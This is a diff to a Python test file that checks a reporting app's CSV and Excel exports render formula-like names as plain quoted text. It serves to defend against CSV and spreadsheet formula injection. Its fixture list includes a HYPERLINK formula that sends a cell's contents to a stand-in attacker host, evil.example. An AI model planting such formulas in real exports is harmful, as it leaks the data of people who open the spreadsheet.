@@ -25,6 +25,7 @@ ANSWERS = {"gender": "Genderfluid-7Q", "ethnicity_group": "Ethnic-7Q", "disabili
            "staff_network": "Network-7Q"}  # fmt: skip
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&E2,"Click")', "+1+2", "-3+4", "@SUM(1,2)", "\tTabbed",
             "\rReturned"]  # fmt: skip
+LABEL = f"{FORMULAS[0]} · =1+1"  # the programme as the figures and the meeting log name it, with its cohort
 
 
 @pytest.fixture(autouse=True)
@@ -108,9 +109,9 @@ def test_names_that_look_like_formulas_read_back_from_csv_as_quoted_text(client,
     rows = list(csv.reader(io.StringIO(download(client, hana, kind, "csv").decode("utf-8-sig"), newline="")))
     cells = [value for row in rows for value in row]
     assert not [value for value in cells if value[:1] in ("=", "+", "-", "@", "\t", "\r")], "a live formula"
-    expected = {FORMULAS[0], "=1+1", "=DEPT()+1"} if kind == "figures" else {FORMULAS[0], *FORMULAS}
+    expected = {LABEL, "=1+1", "=DEPT()+1"} if kind == "figures" else {*FORMULAS}
     if kind == "meetings":
-        expected.discard("=1+1")
+        expected.add(LABEL)
     for name in expected:
         assert "'" + name in cells, f"{name!r} is not in the {kind} export as quoted text"
 
@@ -121,7 +122,9 @@ def test_names_that_look_like_formulas_read_back_from_excel_as_text(client, hana
     cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula cell"
     texts = {cell.value for cell in cells if cell.data_type == "s"}
-    expected = {FORMULAS[0], "=DEPT()+1"} if kind == "figures" else {FORMULAS[0], *FORMULAS}
+    expected = {LABEL, "=DEPT()+1"} if kind == "figures" else {*FORMULAS}
+    if kind == "meetings":
+        expected.add(LABEL)
     for name in expected:
         assert name in texts, f"{name!r} is not a text cell of the {kind} export"
 
